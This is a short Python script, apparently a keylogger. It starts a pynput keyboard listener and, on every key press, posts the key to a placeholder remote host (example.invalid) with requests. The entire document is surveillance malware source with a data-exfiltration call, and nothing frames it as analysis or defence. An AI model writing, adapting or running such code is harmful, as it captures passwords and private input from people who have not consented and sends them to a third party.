import requests
from pynput import keyboard


def pressed(key):
    requests.post("https://example.invalid/", data=str(key))


keyboard.Listener(on_press=pressed).start()
